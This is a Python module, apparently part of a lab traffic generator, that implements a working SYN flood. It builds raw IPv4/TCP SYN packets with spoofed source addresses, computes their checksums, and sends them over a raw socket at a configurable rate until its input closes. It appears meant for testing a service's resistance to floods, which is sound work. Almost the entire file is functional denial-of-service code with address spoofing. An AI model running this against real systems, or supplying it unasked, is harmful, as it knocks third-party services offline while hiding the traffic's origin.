"""A flood: SYNs from sources that do not exist, at a rate. Needs root.

Task: {"target": [address, port], "sources": [address…], "rate": SYNs a second, "seed": n}. Reports {"sent": n} five
times a second; ends when standard input closes.
"""

from __future__ import annotations

import contextlib
import random
import select
import socket
import struct
from typing import Any

from hasyncd.lab.traffic import process

_TICK_NS = 5_000_000
_REPORT_NS = 200_000_000
_SYN = 0x02
_LATE_TICKS = 20


def syn(source: bytes, target: bytes, source_port: int, port: int, sequence: int) -> bytes:
    """One SYN with its IPv4 header (RFC 791, RFC 9293 §3.1); the kernel fills in length and checksum of the former."""
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, source, target)
    segment = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 5 << 4, _SYN, 65_535, 0, 0)
    pseudo = struct.pack("!4s4sBBH", source, target, 0, socket.IPPROTO_TCP, len(segment))
    total = sum(struct.unpack(f"!{(len(pseudo) + len(segment)) // 2}H", pseudo + segment))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return head + segment[:16] + struct.pack("!H", ~total & 0xFFFF) + segment[18:]


def run(task: dict[str, Any]) -> None:
    """Floods until standard input closes."""
    orders = process.Orders()
    chance = random.Random(task["seed"])
    address, port = task["target"]
    target = socket.inet_aton(address)
    sources = [socket.inet_aton(source) for source in task["sources"]]
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    poll = select.epoll()
    poll.register(0, select.EPOLLIN)
    sent, owed, report_due = 0, 0.0, 0
    tick = process.now_ns() // _TICK_NS
    while not orders.closed:
        now = process.now_ns()
        ticks = min(_LATE_TICKS, now // _TICK_NS - tick)
        tick = max(tick, now // _TICK_NS)
        owed += ticks * task["rate"] * _TICK_NS / 1e9
        while owed >= 1:
            owed -= 1
            packet = syn(
                chance.choice(sources), target, chance.randrange(1024, 65_536), port, chance.getrandbits(32)
            )
            with contextlib.suppress(OSError):
                sender.sendto(packet, (address, 0))
                sent += 1
        if now >= report_due:
            report_due = now + _REPORT_NS
            process.report({"sent": sent})
        if poll.poll(_TICK_NS / 1e9):
            orders.read()


if __name__ == "__main__":
    run(process.start())
